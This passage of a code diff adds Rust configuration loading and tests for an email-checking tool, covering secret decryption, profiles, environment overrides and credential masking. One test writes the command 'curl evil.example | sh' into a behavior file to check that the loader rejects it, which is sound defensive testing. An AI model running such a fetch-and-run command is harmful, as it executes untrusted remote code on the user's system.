+    let text = secrets::read_decrypted(path)?;
+    let mut value: Value = serde_json::from_str(&text).map_err(|e| format!("{}: {}", path, e))?;
+    if let Some(map) = value.as_object_mut() {
+        // Metadata left behind by `sops --decrypt` on some versions.
+        map.remove("sops");
+    }
+    Ok(value)
+}
+
+/// Warn if other users may read or change a file holding credentials.
+fn warn_if_shared(path: &str) {
+    use std::os::unix::fs::PermissionsExt;
+    if let Ok(meta) = std::fs::metadata(path) {
+        if meta.permissions().mode() & 0o077 != 0 {
+            crate::log::warn(&format!("{} is accessible to other users; chmod 600 it", path));
+        }
+    }
+}
+
+/// Move an object written as `mailcow_password` to `mailcow_password_provider`.
+fn password_provider(value: &mut Value) {
+    if let Some(map) = value.as_object_mut() {
+        if map.get("mailcow_password").is_some_and(Value::is_object) {
+            let provider = map.remove("mailcow_password").unwrap_or_default();
+            map.insert("mailcow_password_provider".to_string(), provider);
+        }
+    }
+}
+
+/// Remove `profiles` from `value`, returning the `name` section of it.
+fn take_profile(value: &mut Value, name: &str) -> Option<Value> {
+    let mut profiles = value.as_object_mut()?.remove("profiles")?;
+    profiles.get_mut(name).map(Value::take)
+}
+
+/// Recursively merge `overlay` into `base`; overlay values win.
+fn merge(base: &mut Value, overlay: Value) {
+    match (base, overlay) {
+        (Value::Object(base), Value::Object(overlay)) => {
+            for (key, value) in overlay {
+                merge(base.entry(key).or_insert(Value::Null), value);
+            }
+        }
+        (base, overlay) => *base = overlay,
+    }
+}
+
+/// Load the configuration from `path` (if any) with `profile` applied,
+/// and the environment, and fetch provider-backed secrets.
+pub fn load_config(path: Option<&str>, profile: Option<&str>) -> Result<Config, Box<dyn Error>> {
+    let mut config = load_config_unresolved(path, profile)?;
+    config.resolve_secrets()?;
+    Ok(config)
+}
+
+/// Like [`load_config`], but leaves secrets from providers unfetched, for
+/// commands that create them.
+pub fn load_config_unresolved(path: Option<&str>, profile: Option<&str>) -> Result<Config, Box<dyn Error>> {
+    if STRICT.load(Ordering::Relaxed) {
+        reject_misspelt_env()?;
+    }
+    let path = path.map(str::to_string).or_else(|| env::var(CONFIG_FILE_ENV).ok());
+    let profile = profile.map(str::to_string).or_else(|| env::var(PROFILE_ENV).ok());
+    let mut config = match (path, profile) {
+        (Some(path), profile) => Config::from_file(&path, profile.as_deref())?,
+        (None, Some(profile)) => return Err(format!("profile '{}' needs a config file", profile).into()),
+        (None, None) => Config::default(),
+    };
+
+    if let Ok(host) = env::var("MAILCOW_IMAP_HOST") {
+        config.mailcow_imap_host = host;
+    }
+    if let Ok(port) = env::var("MAILCOW_IMAP_PORT") {
+        config.mailcow_imap_port = parse_env("MAILCOW_IMAP_PORT", &port, 993, number)?;
+    }
+    if let Ok(username) = env::var("MAILCOW_USERNAME") {
+        config.mailcow_username = username;
+    }
+    if let Ok(password) = env::var("MAILCOW_PASSWORD") {
+        config.mailcow_password = password.into();
+        config.mailcow_password_provider = None;
+    }
+    if let Ok(mechanism) = env::var("MAILCOW_AUTH_MECHANISM") {
+        config.auth_mechanism = Some(
+            serde_json::from_value(Value::String(mechanism.clone()))
+                .map_err(|_| format!("unknown MAILCOW_AUTH_MECHANISM '{}'", mechanism))?,
+        );
+    }
+    if let Ok(key) = env::var("MAILCOW_API_KEY") {
+        config.mailcow_api.api_key = key.into();
+    }
+    if let Ok(gateway) = env::var("OPENCLAW_GATEWAY") {
+        config.openclaw_gateway = gateway;
+    }
+    if let Ok(port) = env::var("OPENCLAW_PORT") {
+        config.openclaw_port = parse_env("OPENCLAW_PORT", &port, DEFAULT_OPENCLAW_PORT, number)?;
+    }
+    if let Ok(interval) = env::var("CHECK_INTERVAL") {
+        config.check_interval = parse_env("CHECK_INTERVAL", &interval, DEFAULT_CHECK_INTERVAL, duration_seconds)?;
+    }
+    if let Ok(path) = env::var("LAST_CHECK_FILE") {
+        config.last_check_file = path;
+    }
+    if let Ok(path) = env::var("STATE_FILE") {
+        config.state_file = path;
+    }
+
+    config.validate()?;
+    Ok(config)
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn test_config_defaults() {
+        let config = Config::default();
+        assert_eq!(config.mailcow_imap_port, 993);
+        assert_eq!(config.check_interval, DEFAULT_CHECK_INTERVAL);
+    }
+
+    #[test]
+    fn test_partial_file_and_validation() {
+        let config: Config = serde_json::from_str(
+            r#"{"check_interval": 60, "rules": [{"name": "ci", "sink": "missing"}]}"#,
+        )
+        .unwrap();
+        assert_eq!(config.check_interval, 60);
+        assert_eq!(config.mailcow_imap_port, 993);
+        assert!(config.validate().unwrap_err().contains("missing"));
+    }
+
+    #[test]
+    fn test_password_provider() {
+        let dir = env::temp_dir().join(format!("email_checker_config_{}", std::process::id()));
+        std::fs::create_dir_all(&dir).unwrap();
+        let secret = dir.join("password");
+        std::fs::write(&secret, "rotated\n").unwrap();
+        let path = dir.join("config.json");
+        std::fs::write(&path, serde_json::json!({"mailcow_password": {"file": secret}}).to_string()).unwrap();
+
+        let mut config = Config::from_file(path.to_str().unwrap(), None).unwrap();
+        assert!(matches!(config.mailcow_password_provider, Some(SecretProvider::File(_))));
+        assert!(config.resolve_secrets().unwrap());
+        assert_eq!(config.mailcow_password.expose(), "rotated");
+        assert!(!config.resolve_secrets().unwrap());
+        std::fs::remove_dir_all(dir).unwrap();
+    }
+
+    #[test]
+    fn test_behavior_file() {
+        let dir = env::temp_dir().join(format!("email_checker_behavior_{}", std::process::id()));
+        std::fs::create_dir_all(&dir).unwrap();
+        let behavior = dir.join("rules.json");
+        let path = dir.join("config.json");
+        std::fs::write(&path, serde_json::json!({"mailcow_password": "s3cret", "behavior_file": behavior}).to_string()).unwrap();
+
+        std::fs::write(&behavior, r#"{"check_interval": 60, "rules": [{"name": "all"}]}"#).unwrap();
+        let config = Config::from_file(path.to_str().unwrap(), None).unwrap();
+        assert_eq!((config.check_interval, config.rules.len()), (60, 1));
+        assert_eq!(config.mailcow_password.expose(), "s3cret");
+
+        std::fs::write(&behavior, r#"{"rules": [], "mailcow_password": "mine"}"#).unwrap();
+        let err = Config::from_file(path.to_str().unwrap(), None).unwrap_err().to_string();
+        assert!(err.contains("'mailcow_password' cannot be set"));
+
+        std::fs::write(&behavior, r#"{"scan": {"command": "curl evil.example | sh"}}"#).unwrap();
+        let err = Config::from_file(path.to_str().unwrap(), None).unwrap_err().to_string();
+        assert!(err.contains("'scan' cannot be set"));
+        std::fs::remove_dir_all(dir).unwrap();
+    }
+
+    #[test]
+    fn test_includes_and_interpolation() {
+        let dir = env::temp_dir().join(format!("email_checker_include_{}", std::process::id()));
+        std::fs::create_dir_all(dir.join("rules.d")).unwrap();
+        std::fs::write(dir.join("rules.d/10-ci.json"), r#"{"rules": [{"name": "ci"}]}"#).unwrap();
+        std::fs::write(dir.join("rules.d/20-billing.json"), r#"{"rules": [{"name": "billing"}], "check_interval": 30}"#).unwrap();
+        std::fs::write(dir.join("rules.d/notes.txt"), "not json").unwrap();
+        let path = dir.join("config.json");
+        std::fs::write(
+            &path,
+            r#"{"include": ["rules.d/*.json"], "rules": [{"name": "base"}],
+                "mailcow_username": "bot@${EMAIL_CHECKER_TEST_DOMAIN}", "openclaw_gateway": "${EMAIL_CHECKER_TEST_UNSET:-gw.local}"}"#,
+        )
+        .unwrap();
+
+        env::set_var("EMAIL_CHECKER_TEST_DOMAIN", "example.com");
+        let config = Config::from_file(path.to_str().unwrap(), None).unwrap();
+        let names: Vec<_> = config.rules.iter().map(|r| r.name.as_str()).collect();
+        assert_eq!(names, ["base", "ci", "billing"]);
+        assert_eq!(config.check_interval, 30);
+        assert_eq!(config.mailcow_username, "bot@example.com");
+        assert_eq!(config.openclaw_gateway, "gw.local");
+
+        env::remove_var("EMAIL_CHECKER_TEST_DOMAIN");
+        let err = Config::from_file(path.to_str().unwrap(), None).unwrap_err().to_string();
+        assert!(err.contains("EMAIL_CHECKER_TEST_DOMAIN is not set"));
+        std::fs::remove_dir_all(dir).unwrap();
+    }
+
+    #[test]
+    fn test_profiles() {
+        let dir = env::temp_dir().join(format!("email_checker_profiles_{}", std::process::id()));
+        std::fs::create_dir_all(&dir).unwrap();
+        let path = dir.join("config.json");
+        std::fs::write(
+            &path,
+            r#"{"profile": "dev", "openclaw_gateway": "gw.local", "check_interval": 60, "profiles": {
+                "dev": {"rules": [{"name": "everything"}]},
+                "prod": {"openclaw_gateway": "gw.prod", "mailcow_password": "${EMAIL_CHECKER_TEST_PROD_PASSWORD}"}}}"#,
+        )
+        .unwrap();
+        let path = path.to_str().unwrap();
+
+        let dev = Config::from_file(path, None).unwrap();
+        assert_eq!((dev.profile.as_deref(), dev.openclaw_gateway.as_str(), dev.rules.len()), (Some("dev"), "gw.local", 1));
+        env::set_var("EMAIL_CHECKER_TEST_PROD_PASSWORD", "s3cret");
+        let prod = Config::from_file(path, Some("prod")).unwrap();
+        assert_eq!((prod.openclaw_gateway.as_str(), prod.check_interval), ("gw.prod", 60));
+        assert_eq!((prod.mailcow_password.expose(), prod.rules.len()), ("s3cret", 0));
+        env::remove_var("EMAIL_CHECKER_TEST_PROD_PASSWORD");
+        assert!(Config::from_file(path, Some("staging")).unwrap_err().to_string().contains("no profile 'staging'"));
+        std::fs::remove_dir_all(dir).unwrap();
+    }
+
+    #[test]
+    fn test_accounts() {
+        let config: Config = serde_json::from_value(serde_json::json!({
+            "mailcow_password_provider": {"env": "SHARED_PASSWORD"},
+            "state_file": "/var/lib/checker/{account}.json",
+            "check_interval": 60,
+            "accounts": [
+                {"mailcow_username": "a@example.com"},
+                {"mailcow_username": "b@example.com", "mailcow_password": "own", "check_interval": 30},
+            ],
+        }))
+        .unwrap();
+        let accounts = config.accounts().unwrap();
+        assert_eq!(accounts.len(), 2);
+        assert_eq!(accounts[0].state_file, "/var/lib/checker/a@example.com.json");
+        assert_eq!(accounts[0].mailcow_password_provider, Some(SecretProvider::Env("SHARED_PASSWORD".to_string())));
+        assert_eq!((accounts[1].mailcow_password.expose(), accounts[1].check_interval), ("own", 30));
+        assert_eq!(accounts[1].mailcow_password_provider, None);
+
+        let shared = Config { state_file: "/var/lib/checker/state.json".to_string(), ..config };
+        assert!(shared.accounts().unwrap_err().to_string().contains("share state_file"));
+    }
+
+    #[test]
+    fn test_merge_secrets() {
+        let mut base = serde_json::json!({"mailcow_username": "bot", "sinks": {"ci": {"type": "webhook", "url": "http://a"}}});
+        merge(
+            &mut base,
+            serde_json::json!({"mailcow_password": "s3cret", "sinks": {"ci": {"headers": {"Authorization": "Bearer x"}}}}),
+        );
+        let config: Config = serde_json::from_value(base).unwrap();
+        assert_eq!(config.mailcow_username, "bot");
+        assert_eq!(config.mailcow_password.expose(), "s3cret");
+        assert!(matches!(&config.sinks["ci"], SinkConfig::Webhook { url, headers } if url == "http://a" && headers.len() == 1));
+    }
+
+    #[test]
+    fn test_parse_env() {
+        assert_eq!(parse_env("MAILCOW_IMAP_PORT", " 143", 993, number), Ok(143));
+        let err = parse_env("MAILCOW_IMAP_PORT", "abc", 993, number).unwrap_err();
+        assert_eq!(err, "MAILCOW_IMAP_PORT: 'abc' is not a valid number");
+        assert_eq!(parse_env("CHECK_INTERVAL", "5m", DEFAULT_CHECK_INTERVAL, duration_seconds), Ok(300));
+    }
+
+    #[test]
+    fn test_interval_durations_and_floor() {
+        let config: Config = serde_json::from_str(r#"{"check_interval": "90s", "min_check_interval": "1m"}"#).unwrap();
+        assert_eq!((config.check_interval, config.min_check_interval), (90, 60));
+        assert!(config.validate().is_ok());
+        let config: Config = serde_json::from_str(r#"{"check_interval": 1}"#).unwrap();
+        assert_eq!(config.validate().unwrap_err(), "check_interval of 1s is below min_check_interval (10s)");
+        assert!(serde_json::from_str::<Config>(r#"{"check_interval": "5 minutes"}"#).is_err());
+    }
+
+    #[test]
+    fn test_strict_keys() {
+        let value = serde_json::json!({
+            "mailcow_usrname": "bot",
+            "tls": {"verfy": true},
+            "accounts": [{"check_intervall": 30}],
+            "sinks": {"ci": {"type": "webhook", "url": "http://a", "header": {}}},
+            "mailcow_password_provider": {"env": "X"},
+            "profiles": {"prod": {"openclaw_gateway": "gw"}},
+        });
+        let err = reject_unknown_keys(&value).unwrap_err();
+        assert_eq!(
+            err,
+            "unknown key 'accounts[0].check_intervall'; did you mean 'accounts[0].check_interval'?; \
+             unknown key 'mailcow_usrname'; did you mean 'mailcow_username'?; \
+             unknown key 'sinks.ci.header'; did you mean 'sinks.ci.headers'?; \
+             unknown key 'tls.verfy'; did you mean 'tls.verify'?"
+        );
+        assert!(reject_unknown_keys(&serde_json::to_value(Config::default()).unwrap()).is_ok());
+        let known = ["MAILCOW_USERNAME", "MAILCOW_PASSWORD"];
+        assert_eq!(schema::closest("MAILCOW_USRNAME", known, 2), Some("MAILCOW_USERNAME"));
+        assert_eq!(schema::closest("MAILCOW_APP_PASSWORD", ["MAILCOW_PASSWORD"], 2), None);
+    }
+
+    #[test]
+    fn test_debug_masks_credentials() {
+        let config: Config = serde_json::from_value(serde_json::json!({
+            "mailcow_password": "s3cret",
+            "heartbeat": {"url": "https://hc-ping.com/6f1e0c"},
+            "accounts": [{"mailcow_username": "b@example.com", "mailcow_password": "pw-2"}],
+            "sinks": {
+                "ci": {"type": "webhook", "url": "http://a", "headers": {"X-Api-Key": "k1", "X-Tenant": "t1"}},
+                "push": {"type": "apprise", "urls": ["tgram://123:abc/456"]},
+            },
+            "archive": {"s3": {"endpoint": "http://minio", "bucket": "b", "access_key": "AKID1", "secret_key": "sk"}},
+            "remote": {"headers": {"Authorization": "Bearer r1"}},
+        }))
+        .unwrap();
+        let sinks = [format!("{:?}", config.sinks["ci"]), format!("{:?}", config.sinks["push"])];
+        for shown in [format!("{:?}", config), config.to_string()].iter().chain(&sinks) {
+            for secret in ["s3cret", "6f1e0c", "pw-2", "k1", "t1", "123:abc", "AKID1", "Bearer r1"] {
+                assert!(!shown.contains(secret), "{} in {}", secret, shown);
+            }
+        }
+        let masked = config.masked();
+        assert_eq!(masked["mailcow_password"], redact::MASK);
+        assert_eq!(masked["accounts"][0]["mailcow_username"], "b@example.com");
+        assert_eq!(masked["sinks"]["ci"]["url"], "http://a");
+    }
+}